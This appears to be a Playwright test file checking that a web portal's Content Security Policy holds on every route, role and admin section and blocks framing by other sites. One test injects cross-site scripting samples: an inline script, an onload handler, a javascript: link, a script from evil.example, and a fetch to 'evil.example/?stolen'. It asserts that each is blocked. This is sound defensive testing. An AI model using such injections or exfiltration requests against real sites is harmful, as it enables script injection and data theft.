import { expect, type Page } from '@playwright/test';
import { roles } from 'domain/account/account.ts';
import { paths } from 'domain/paths.ts';
import { routeTable } from '#web/app/route-table.ts';
import { test } from '#tests/e2e/deals/member.ts';
import { db } from '#tests/services.ts';

// tests/e2e/policy.ts fails every test in which a page violates the policy of firebase.json, among them those of photos, maps,
// tables and toasts. Here are every route for every role, and that the policy forbids what it is there for.

async function everyAddress(): Promise<string[]> {
  const active = await db.collection(paths.deals()).where('status', '==', 'active').limit(1).get();
  const dealId = active.docs[0]?.id ?? '';
  return [...routeTable.map(({ path }) => path.replace(':id', dealId)), '/nowhere'];
}

/** Opens one address after another, each until everything is there that comes when one scrolls. */
async function visit(page: Page, addresses: readonly string[]): Promise<void> {
  /* oxlint-disable no-await-in-loop -- one page, one address after another */
  for (const address of addresses) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(async () => {
      await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
      expect(await page.locator('[class*="Skeleton"]').count()).toBe(0);
    }).toPass();
  }
  /* oxlint-enable no-await-in-loop */
}

test('a visitor opens every route without a violation', async ({ page }) => {
  test.slow();
  await visit(page, await everyAddress());
});

for (const role of roles) {
  test(`every route opens without a violation for the role ${role}`, async ({ member }) => {
    test.slow();
    const { page } = await member({ role });
    await visit(page, await everyAddress());
  });
}

test('every section of the admin panel opens without a violation', async ({ member }) => {
  test.slow();
  const { page } = await member({ role: 'admin' }, { path: '/admin' });
  const links = page.getByRole('main').locator('a[href*="section="]');
  await expect(links.first()).toBeVisible();
  const sections = await links.evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
  expect(sections.length).toBeGreaterThan(5);
  await visit(page, [...new Set(sections)]);
});

test('what somebody brings into a page neither runs nor reaches another host', async ({ page, violations }) => {
  await page.goto('/auth');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const results: string[] = [];
    Object.assign(globalThis, { run: (what: string) => results.push(what) });
    const script = Object.assign(document.createElement('script'), { textContent: 'run("inline script")' });
    const handler = document.createElement('div');
    handler.innerHTML = '<img src="/logo.svg" onload="run(\'event handler\')">';
    const link = Object.assign(document.createElement('a'), { href: 'javascript:run("link")' });
    const foreign = new Promise((resolve) => {
      const element = Object.assign(document.createElement('script'), { src: 'https://evil.example/script.js' });
      element.addEventListener('error', resolve);
      document.head.append(element);
    });
    document.body.append(script, handler, link);
    link.click();
    await handler.querySelector('img')?.decode();
    await foreign;
    await fetch('https://evil.example/?stolen').then(
      () => results.push('request'),
      () => undefined,
    );
    return results;
  });
  expect(ran).toEqual([]);
  const about = (what: RegExp) => violations.filter((text) => what.test(text));
  expect(about(/inline script/)).not.toEqual([]);
  expect(about(/inline event handler/)).not.toEqual([]);
  expect(about(/JavaScript URL/)).not.toEqual([]);
  expect(about(/evil\.example\/script\.js/)).not.toEqual([]);
  expect(about(/evil\.example\/\?stolen/)).not.toEqual([]);
  violations.length = 0;
});

test('no page of another site can frame the portal', async ({ page, baseURL, violations }) => {
  await page.route('**/other-site', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/auth"></iframe>` }),
  );
  await page.goto('/other-site');
  await expect.poll(() => violations.join()).toMatch(/frame-ancestors 'none'/);
  expect(page.frames()[1]?.url()).not.toContain('/auth');
  violations.length = 0;
});
